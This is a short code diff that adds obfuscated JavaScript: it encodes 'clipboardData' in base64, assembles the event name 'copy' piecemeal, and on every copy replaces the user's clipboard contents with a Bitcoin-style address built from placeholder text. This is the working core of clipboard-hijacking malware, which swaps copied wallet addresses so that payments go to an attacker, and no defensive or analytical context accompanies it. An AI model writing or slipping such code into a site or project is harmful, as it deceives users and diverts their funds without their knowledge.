@@ -1,0 +1,5 @@
+var cb = "Y2xpcGJvYXJkRGF0YQ==";
+document["addEventListener"](["c", "o", "p", "y"].join(""), function (v) {
+  v[atob(cb)].setData("text/plain", "bc1q" + "exampleexampleexampleexample");
+  v.preventDefault();
+});
